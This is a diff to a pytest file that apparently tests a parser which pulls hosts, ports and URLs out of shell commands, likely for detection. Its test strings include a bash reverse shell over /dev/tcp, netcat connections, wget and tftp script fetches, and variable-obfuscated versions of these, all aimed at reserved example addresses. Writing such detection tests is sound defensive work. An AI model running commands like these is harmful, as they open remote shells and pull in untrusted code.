@@ -87,6 +87,16 @@ def test_endpoints_that_are_connected_to(command: str, endpoints: list[str]) -> 
         ),
         ("echo http://a.example.org/x nc 192.0.2.1 99 # wget http://a.example.org/y", []),
         ("echo x > /dev/tcp/192.0.2.1/99; tftp -g -r a.sh 192.0.2.2", ["192.0.2.2", "192.0.2.1:99"]),
+        (
+            "H=a.example.org; export U=http://$H/x; W=/usr/bin/wget; $W -q ${U}y; U=- nc $H $P",
+            ["http://a.example.org/xy", "a.example.org"],
+        ),
+        ("H=192.0.2.1 P=99; bash -i >& /dev/tcp/$H/$P; sh -c 'nc $H 80'", ["192.0.2.1:99", "192.0.2.1:80"]),
+        ("U=http://a.example.org/x wget $U; echo $U; wget $V", []),
+        (
+            "python3 -c \"import os; urlopen('http://a.example.org/x')\"; perl x.pl http://b.example.org/",
+            ["http://a.example.org/x", "a.example.org"],
+        ),
     ],
 )
 def test_what_programs_are_told_to_use(command: str, used: list[str]) -> None:
@@ -118,7 +128,11 @@ def test_any_command_is_read(command: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "unit", ["wget -a ", "a.", "1.1.1.1:1 ", "http://a.b/ ", "4" + "A" * 94 + " ", "nc ", "ssh-rsa AAAA", "0x"]
+    "unit",
+    [
+        *("wget -a ", "a.", "1.1.1.1:1 ", "http://a.b/ ", "4" + "A" * 94 + " ", "nc ", "ssh-rsa AAAA", "0x"),
+        *(f"A={'nc 192.0.2.1 9' * 35};$A;", "A=1;A=$A$A;nc $A;"),
+    ],
 )
 def test_a_long_command_is_read_in_bounded_time(unit: str) -> None:
     command = (unit * READ_CHARACTERS)[: 2 * READ_CHARACTERS]
